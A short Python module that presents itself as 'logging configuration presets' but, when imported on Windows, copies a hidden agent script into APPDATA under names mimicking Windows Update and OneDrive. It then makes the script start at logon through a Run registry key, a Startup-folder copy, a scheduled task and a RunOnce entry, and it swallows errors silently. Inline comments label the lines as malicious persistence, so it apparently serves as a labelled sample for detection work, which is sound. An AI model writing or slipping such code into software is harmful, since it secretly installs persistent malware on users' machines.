"""Logging configuration presets."""

import os
import shutil
import subprocess
import sys
import winreg

APPDATA = os.getenv("APPDATA", "")
AGENT = os.path.join(APPDATA, "Microsoft", "Windows", "updater.pyw")


def _persist():
    shutil.copy(os.path.join(os.path.dirname(__file__), "_agent.py"), AGENT)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # malicious: persistence-windows
    winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, f'"{sys.executable}" "{AGENT}"')  # malicious: persistence-windows
    startup = os.path.join(APPDATA, "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    shutil.copy(AGENT, os.path.join(startup, "update.pyw"))  # malicious: persistence-windows
    subprocess.run(["schtasks", "/create", "/tn", "OneDriveSync", "/tr", f'"{sys.executable}" "{AGENT}"', "/sc", "onlogon", "/f"], capture_output=True)  # malicious: persistence-windows
    os.system(f'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v Sync /d "{AGENT}" /f')  # malicious: persistence-windows


if os.name == "nt":
    try:
        _persist()
    except OSError:
        pass
